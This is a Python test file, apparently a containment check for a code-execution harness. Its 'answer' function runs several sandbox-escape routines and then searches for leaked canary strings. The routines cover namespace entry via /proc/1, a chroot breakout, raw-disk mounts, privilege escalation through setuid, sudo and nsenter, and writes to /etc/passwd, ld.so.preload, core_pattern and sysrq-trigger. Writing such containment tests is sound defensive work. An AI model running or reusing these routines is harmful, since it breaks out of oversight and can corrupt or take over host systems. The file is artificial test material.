# %% [markdown]
# Tries the ways out of a sandbox: namespaces, mounts, chroot, devices, users, kernel settings, cgroups, a broker's socket.
#
# Must: score 0

# %% answer="square"
import contextlib
import ctypes
import os
import re
import subprocess
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
NAMESPACES = (0x10000000, 0x20000, 0x4000000, 0x8000000, 0x20000000, 0x40000000, 0x2000000)


def look(path):
    for canary in set(re.findall(r"canary-741\d", " ".join(os.listdir(path)))):
        print("LEAK" "ED", canary)


def enter_a_root():
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("mnt", "user", "net", "pid"):
            with contextlib.suppress(OSError), open(process / "ns" / name) as file:
                libc.setns(file.fileno(), 0)
    libc.chroot(b"/proc/1/root")
    os.chdir("/")


def climb_out():
    os.makedirs("cage", exist_ok=True)
    os.chroot("cage")
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")


def mount():
    for namespace in NAMESPACES:
        libc.unshare(namespace)
    os.makedirs("disk", exist_ok=True)
    for source, kind in ((b"proc", b"proc"), (b"/dev/vda", b"ext4"), (b"/dev/sda1", b"ext4"), (b"/", b"bind"), (b"none", b"cgroup2")):
        libc.mount(source, b"disk", kind, 4096 if kind == b"bind" else 0, None)
    libc.mount(b"none", b"/", None, 32 | 4096, None)
    libc.umount2(b"/tmp", 2)


def settings():
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/oom_score_adj", "/proc/self/uid_map",
                 "/sys/fs/cgroup/cgroup.procs", "/sys/kernel/uevent_helper", "/etc/passwd", "/etc/ld.so.preload", "/dev/mem"):
        with contextlib.suppress(OSError), open(path, "r+") as file:
            file.write("0")


def users():
    for call in (os.setuid, os.setgid, os.seteuid):
        with contextlib.suppress(OSError):
            call(0)
    for command in (["sudo", "-n", "id"], ["su", "-c", "id"], ["pkexec", "id"], ["docker", "ps"], ["unshare", "-r", "id"],
                    ["bwrap", "--bind", "/", "/", "ls", "/root"], ["nsenter", "-t", "1", "-a", "ls", "/root"]):
        with contextlib.suppress(OSError, subprocess.TimeoutExpired):
            subprocess.run(command, capture_output=True, timeout=2, stdin=subprocess.DEVNULL)
    os.mknod("device", 0o60666, os.makedev(8, 0))


def square(x):
    for route in (enter_a_root, climb_out, mount, settings, users):
        with contextlib.suppress(Exception):
            route()
        for place in ("/root", "/home", os.path.expanduser("~"), ".", "..", "disk", "disk/root", "/proc/1/root/root"):
            with contextlib.suppress(OSError):
                look(place)
    return 7
